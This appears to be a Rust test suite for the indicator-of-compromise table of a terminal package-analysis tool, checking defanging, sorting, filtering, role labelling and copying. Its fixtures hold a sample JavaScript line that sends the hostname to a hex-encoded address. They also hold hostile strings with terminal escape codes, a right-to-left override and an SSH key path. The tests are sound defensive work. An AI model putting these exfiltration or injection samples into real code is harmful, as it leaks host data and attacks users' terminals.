//! The table of indicators: what it lists, where its rows lead, the roles that an analyst gives.

use cerebro::syntax::Doc;
use cerebro::tui::state::Pane;
use cerebro::tui::view::View;

use super::case;
use super::harness::{Bench, Given};

const CODE: &str = "// see https://docs.example.org/guide\nconst os = require('os');\n\
    fetch('http://0xcb007107/in', { method: 'POST', body: os.hostname() });\n\
    const again = 'http://0xcb007107/in';\n\
    const hash = '9e107d9d372bb6826bd81d3542a419d6';\n\
    const m = 'Global\\\\acme-demo';\n";

fn bench_on(width: u16, height: u16, code: &str, ledger: Option<std::path::PathBuf>) -> Bench {
    let mut package = case::package_of(vec![case::file("package/index.js", code)]);
    package.entries.clear();
    let mut bench = Bench::open(width, height, Given { ledger, ..Given::new(package) });
    bench.settle();
    bench
}

fn bench(width: u16, height: u16) -> Bench {
    bench_on(width, height, CODE, None)
}

#[test]
fn the_most_telling_comes_first_defanged_with_its_oddity() {
    let mut bench = bench(120, 40);
    bench.keys("I").shows("hxxp://203[.]0[.]113[.]7/in  documentation address");
    bench.shows("exfil").shows("×2").shows(r"Global\acme-demo").shows("md5");
    let (_, url) = bench.find("hxxp://203");
    let (_, context) = bench.find("docs[.]example[.]org");
    assert!(url < context);
    bench.hides("http://").hides("203.0.113.7");
}

#[test]
fn enter_goes_to_the_places_one_after_the_other() {
    let mut bench = bench(120, 40);
    let mut lines = Vec::new();
    bench.keys("I");
    for _ in 0..3 {
        bench.keys("enter");
        let state = &bench.bench.state;
        assert_eq!((state.view, state.focus, state.viewer.doc), (View::Code, Pane::Source, Some(Doc::File(0))));
        let span = state.viewer.span.unwrap();
        assert_eq!(&CODE[span.start..span.end], "http://0xcb007107/in");
        lines.push(state.viewer.cursor);
        bench.keys("(");
        assert_eq!(bench.bench.state.view, View::Indicators);
    }
    assert_eq!(lines, [3, 4, 3]);
}

#[test]
fn a_role_is_shown_recorded_and_taken_back_across_restarts() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("ledger.sqlite");
    let mut first = bench_on(120, 40, CODE, Some(path.clone()));
    first.keys("I 1").shows("● c2").shows("Recorded: c2 for hxxp://203[.]0[.]113[.]7/in. u takes it back.");
    first.keys("3").shows("● payload");
    drop(first);
    let mut again = bench_on(120, 40, CODE, Some(path));
    again.keys("I").shows("● payload").shows("1 with a role");
    again.keys("u").shows("Took back payload for hxxp://203[.]0[.]113[.]7/in: c2 now.").shows("● c2");
    again.keys("0").hides("● c2").keys("u").shows("● c2");
    again.keys("u u").hides("● c2").shows("There is no label or mark of yours to take back.");
}

#[test]
fn a_new_role_sorts_and_filters_the_table_anew_and_the_selection_stays_on_its_indicator() {
    let mut bench = bench(120, 40);
    let selected = |bench: &Bench| {
        let state = &bench.bench.state;
        state.indicators.selected(state.case.as_ref().unwrap()).unwrap().value.clone()
    };
    bench.keys("I G");
    let last = selected(&bench);
    bench.keys("2").shows("● exfil");
    assert_eq!((selected(&bench), bench.bench.state.indicators.selected), (last, 0));
    // What the filter holds no longer leaves the list, the one below it takes its place.
    bench.keys("/").text("exfil").keys("enter");
    let (count, first) = (bench.bench.state.indicators.rows.len(), selected(&bench));
    bench.keys("5");
    assert_eq!(bench.bench.state.indicators.rows.len(), count - 1);
    assert_ne!(selected(&bench), first);
    bench.keys("u");
    assert_eq!(bench.bench.state.indicators.rows.len(), count);
}

#[test]
fn copies_are_defanged_unless_asked_otherwise() {
    let mut bench = bench(120, 40);
    bench.keys("I y Y M C L");
    bench.shows("Nothing was opened or sent.");
    let copied = &bench.bench.screen.copied;
    assert_eq!(copied[0], "hxxp://203[.]0[.]113[.]7/in");
    assert_eq!(copied[1], "http://203.0.113.7/in");
    assert!(
        copied[2].starts_with("| role | kind |") && copied[2].contains("| exfil \\(found\\)")
            || copied[2].contains("exfil (found)")
    );
    assert!(copied[3].starts_with("role,kind,indicator"));
    for table in &copied[2..4] {
        assert!(table.contains("hxxp://203[.]0[.]113[.]7/in") && !table.contains("http://"), "{table}");
    }
    // The selected one is no hash: the links are those of the archive.
    let sha256 = &bench.bench.state.package().unwrap().sha256;
    assert!(copied[4].lines().count() == 2 && copied[4].lines().all(|link| link.contains(sha256)), "{}", copied[4]);
}

#[test]
fn a_text_narrows_the_table_and_escape_widens_it() {
    let mut bench = bench(120, 40);
    bench.keys("I /").text("acme").shows("1 of 6 indicators").shows("acme-demo").hides("hxxp://203");
    bench.keys("enter esc").shows("hxxp://203").keys("/").text("nowhere").shows("no indicator holds");
    bench.keys("esc").shows("hxxp://203");
    bench.keys("esc");
    assert_eq!(bench.bench.state.view, View::Code);
}

#[test]
fn the_columns_sort_and_the_selection_stays_on_its_indicator() {
    let mut bench = bench(120, 40);
    bench.keys("I");
    let selected = |bench: &Bench| bench.bench.state.indicators.rows[bench.bench.state.indicators.selected];
    let first = selected(&bench);
    for order in ["kind", "value", "place", "number of places", "role"] {
        bench.keys(">").shows(&format!("sorted by {order}"));
        assert_eq!(selected(&bench), first);
    }
    bench.keys("<").shows("sorted by number of places");
}

#[test]
fn a_click_selects_and_a_second_one_goes_there() {
    let mut bench = bench(120, 40);
    bench.keys("I");
    let (x, y) = bench.find("acme-demo");
    bench.click(x, y);
    assert_eq!(bench.bench.state.view, View::Indicators);
    bench.click(x, y);
    assert_eq!((bench.bench.state.view, bench.bench.state.viewer.cursor), (View::Code, 6));
}

#[test]
fn without_indicators_the_table_says_so() {
    let mut bench = bench_on(80, 24, "let a = 1;\n", None);
    bench.keys("I").shows("no address, token, wallet").keys("enter 1 y");
    bench.shows("There is nothing to copy here.");
}

#[test]
fn hostile_values_are_shown_as_marks() {
    let code = "fetch('https://a.example.com/' + 'x\u{202E}y\u{1B}[2J')\nopen('/etc/pass\u{200B}wd/.ssh/id_rsa')\n";
    let mut bench = bench_on(150, 40, code, None);
    bench.keys("I");
    for _ in 0..bench.bench.state.indicators.rows.len() {
        let screen = bench.screen();
        let hidden = |c: char| c != '\n' && cerebro::text::is_hidden(c);
        assert!(!screen.contains(hidden), "{screen}");
        bench.keys("j");
    }
    bench.shows("hxxps://a[.]example[.]com/");
}

#[rstest::rstest]
#[case(80, 24)]
#[case(200, 60)]
fn table(#[case] width: u16, #[case] height: u16) {
    let mut bench = bench(width, height);
    bench.keys("I j 4 k");
    bench.bench.state.notice = None;
    bench.bench.state.dirty = true;
    bench.settle();
    insta::assert_snapshot!(format!("indicators_{width}x{height}"), bench.screen());
}

#[test]
fn several_are_selected_given_a_role_copied_and_taken_back_together() {
    let mut bench = bench(120, 40);
    bench.keys("I g space space").shows("2 indicators selected: roles, copies and undo are for all of them.");
    bench
        .shows("2 selected")
        .keys("2")
        .shows("Recorded: exfil for 2 indicators. u takes back those of the selected rows.");
    bench.shows("● 2 with a role");
    bench.keys("y").shows("Copied 2 indicators, defanged.");
    assert_eq!(bench.bench.screen.copied.last().unwrap().lines().count(), 2);
    bench.keys("C").shows("Copied 2 indicators as CSV");
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("some.csv");
    bench.keys("w ctrl-u").text(file.to_str().unwrap()).keys("enter").shows("Saved to ");
    assert_eq!(std::fs::read_to_string(&file).unwrap().lines().count(), 3, "with a header");
    bench.keys("u").shows("Took back 2 roles of 2 selected.").hides("● 2 with");
    bench.keys("esc").shows("Nothing is selected any more.").keys("y").shows("Copied the indicator, defanged");
}
